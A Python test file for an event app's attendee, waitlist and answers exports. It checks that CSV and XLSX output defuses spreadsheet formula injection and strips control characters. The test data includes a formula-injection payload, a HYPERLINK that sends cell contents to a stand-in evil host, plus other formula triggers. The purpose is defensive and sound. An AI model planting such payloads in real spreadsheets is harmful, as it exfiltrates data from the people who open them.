"""Exports of attendees, waitlist and answers: read back with csv and openpyxl, formulas defused."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from agora import spreadsheets
from events import checkin, exports, services
from tests.events.helpers import published_session, register

EVIL = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
    "organisation": "+49 30 123456",
    "role": "-2+3",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Müller GmbH", "Müller GmbH"),
        ("a=b", "a=b"),
        (None, ""),
        (3, "3"),
        ("Erika\x00\x0bMuster\x1b", "Erika\ufffd\ufffdMuster\ufffd"),
        ("\x00=1+1", "\ufffd=1+1"),
        ("zwei\nZeilen\tund\r", "zwei\nZeilen\tund\r"),
        ("\ud800x\uffff", "\ufffdx\ufffd"),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert exports.safe_cell(value) == expected


async def _session_with_people(settings):  # noqa: ANN001, ANN202
    session = await published_session(capacity=3, max_colleagues=1)
    question = await services.add_question(
        label="Themen", kind="checkboxes", options=["Fachkräfte", "Digitales"], session_id=session.id
    )
    note = await services.add_question(label="Hinweis", kind="text", session_id=session.id)
    evil = await register(
        settings,
        session.id,
        1,
        by_staff=True,
        **EVIL,
        answers={str(question.id): ["Fachkräfte", "Digitales"], str(note.id): "@SUM(A1:A9)"},
    )
    umlaut = await register(
        settings,
        session.id,
        2,
        by_staff=True,
        name="Jürgen Äßler",
        organisation="Bäckerei Öztürk",
        colleagues=[{"name": "Zoë Weiß", "email": ""}],
    )
    await checkin.check_in(session.id, umlaut.checkin_code)
    first_waiting = await register(settings, session.id, 3, by_staff=True, name="Erste Wartende")
    second_waiting = await register(settings, session.id, 4, by_staff=True, name="Zweite Wartende")
    return session, evil, umlaut, first_waiting, second_waiting


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_attendee_csv_and_xlsx_through_the_page(staff_client, database) -> None:
    session, evil, umlaut, *_ = await _session_with_people(database)
    base = f"/staff/events/sessions/{session.id}/export"
    response = await staff_client.get(base + "/attendees.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = _read_csv(response.content)
    header, body = rows[0], rows[1:]
    assert len(body) == 2  # the waitlist is not among the attendees
    assert len(header) == 12 and header[9] == "Nimmt teil" and header[10] == "Gebühr pro Person"
    by_email = {row[3]: row for row in body}
    evil_row = by_email[evil.email]
    assert evil_row[0] == "'" + EVIL["name"]
    assert evil_row[1] == "'+49 30 123456"
    assert evil_row[2] == "'-2+3"
    umlaut_row = by_email[umlaut.email]
    assert umlaut_row[0] == "Jürgen Äßler" and umlaut_row[1] == "Bäckerei Öztürk"
    assert umlaut_row[4] == "Zoë Weiß" and umlaut_row[5] == "2"
    assert umlaut_row[-1]  # checked-in time

    response = await staff_client.get(base + "/attendees.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types  # no formula cell anywhere
    names = [row[0] for row in values[1:]]
    assert "'" + EVIL["name"] in names and "Jürgen Äßler" in names


async def test_waitlist_export_keeps_the_order(staff_client, database) -> None:
    session, _evil, _umlaut, first, second = await _session_with_people(database)
    response = await staff_client.get(f"/staff/events/sessions/{session.id}/export/waitlist.csv")
    body = _read_csv(response.content)[1:]
    assert [(row[0], row[1]) for row in body] == [("1", first.name), ("2", second.name)]
    sheet = load_workbook(
        io.BytesIO((await staff_client.get(f"/staff/events/sessions/{session.id}/export/waitlist.xlsx")).content)
    ).active
    assert [sheet.cell(row=r, column=2).value for r in (2, 3)] == [first.name, second.name]


async def test_answers_export(staff_client, database) -> None:
    session, evil, *_ = await _session_with_people(database)
    rows = _read_csv((await staff_client.get(f"/staff/events/sessions/{session.id}/export/answers.csv")).content)
    header = rows[0]
    assert header[-2:] == ["Themen", "Hinweis"]
    evil_row = next(row for row in rows[1:] if row[2] == evil.email)
    assert evil_row[-2] == "Fachkräfte, Digitales"
    assert evil_row[-1] == "'@SUM(A1:A9)"
    assert len(rows) == 5  # header and everyone who registered, waitlist included

    content, media, name = await exports.export(session, "answers", "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=1, column=5).value == "Themen"
    assert name == f"session-{session.id}-answers.xlsx" and media.endswith("sheet")


async def test_unknown_exports_are_404(staff_client, database) -> None:
    session = await published_session()
    for path in ("everything.csv", "attendees.pdf", "attendees"):
        response = await staff_client.get(f"/staff/events/sessions/{session.id}/export/{path}")
        assert response.status_code == 404, path


def test_csv_writer_quotes_separators_and_newlines() -> None:
    content = exports.to_csv(["a", "b"], [["x;y", "zeile\neins"], ["=cmd", "ok"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["a", "b"], ["x;y", "zeile\neins"], ["'=cmd", "ok"]]


async def test_stored_control_characters_never_break_an_export(staff_client, database) -> None:
    # Written with the ORM: the input models refuse such text, but rows from before them may hold it.
    from events.models import Registration

    session, evil, *_ = await _session_with_people(database)
    question_id = next(iter(evil.answers))
    bad = "\x0bvertical\x1ftab\x08" if database.database_url.startswith("postgres") else "Nul\x00l\x0b"
    await Registration.filter(id=evil.id).update(
        name="=" + bad, organisation=bad, answers={**evil.answers, question_id: [bad, "Digitales"]}
    )
    expected = exports.safe_cell("=" + bad)
    assert "\ufffd" in expected and expected.startswith("'=")
    for kind in exports.KINDS:
        for fmt in exports.FORMATS:
            response = await staff_client.get(f"/staff/events/sessions/{session.id}/export/{kind}.{fmt}")
            assert response.status_code == 200, (kind, fmt)
            if fmt == "csv":
                cells = [cell for row in _read_csv(response.content) for cell in row]
            else:
                sheet = load_workbook(io.BytesIO(response.content)).active
                cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
                assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
            text = "".join(cells)
            assert not spreadsheets.UNWRITABLE.search(text), (kind, fmt)
            if kind != "waitlist":
                assert expected in cells, (kind, fmt)
            if kind == "answers":
                assert exports.safe_cell(bad) + ", Digitales" in cells
